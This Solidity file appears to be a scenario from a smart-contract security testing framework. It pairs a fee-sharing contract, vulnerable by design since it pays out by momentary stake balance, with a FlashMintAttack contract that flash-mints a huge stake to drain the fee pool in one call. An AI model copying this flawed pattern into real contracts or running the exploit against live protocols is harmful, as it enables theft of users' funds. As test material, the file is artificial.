// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// May be minted by anybody for the length of a call.
contract MintableStake is Token {
    constructor() Token("STK", 18) {}

    function flashMint(uint256 amount, bytes calldata data) external {
        _mint(msg.sender, amount);
        IMintBorrower(msg.sender).onMint(amount, data);
        _burn(msg.sender, amount);
    }
}

interface IMintBorrower {
    function onMint(uint256 amount, bytes calldata data) external;
}

/// Shares out fees by what one holds at the moment.
contract FeeShare {
    MintableStake public immutable stake;
    IERC20 public immutable usd;
    mapping(address => uint256) public last;

    event Claimed(address indexed who, uint256 amount);

    constructor(MintableStake stake_, IERC20 usd_) {
        (stake, usd) = (stake_, usd_);
    }

    function claim() external {
        require(block.number > last[msg.sender] + 50, "wait");
        last[msg.sender] = block.number;
        uint256 amount = usd.balanceOf(address(this)) * stake.balanceOf(msg.sender) / stake.totalSupply();
        usd.transfer(msg.sender, amount);
        emit Claimed(msg.sender, amount);
    }

    function pay(uint256 amount) external {
        usd.transferFrom(msg.sender, address(this), amount);
    }
}

contract FlashMintScene is Scene {
    Token public usd;
    MintableStake public stake_ = new MintableStake();
    FeeShare public fees;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        fees = new FeeShare(stake_, IERC20(address(usd)));
        usd.mint(address(fees), 1_500_000e18);
        stake_.mint(address(this), 1_000_000e18);
        _protect(address(fees));
        loot0 = IERC20(address(usd));
        atomic = true;
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 100_000e18, address(fees));
        _arm(stake_, users, 100e18, address(fees));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        if (dice >> 200 & 1 == 0 && block.number > fees.last(who) + 51) {
            return (address(fees), 0, abi.encodeCall(FeeShare.claim, ()));
        }
        return (address(fees), 0, abi.encodeCall(FeeShare.pay, (_amount(dice, 10e18, 300e18))));
    }
}

contract FlashMintAttack is Attack, IMintBorrower {
    MintableStake private immutable stake;
    FeeShare private immutable fees;

    constructor(FlashMintScene scene) Attack(scene) {
        (stake, fees) = (scene.stake_(), scene.fees());
    }

    function _act(uint256, uint256, uint256) internal override {
        stake.flashMint(100_000_000e18, "");
    }

    function onMint(uint256, bytes calldata) external {
        fees.claim();
    }
}
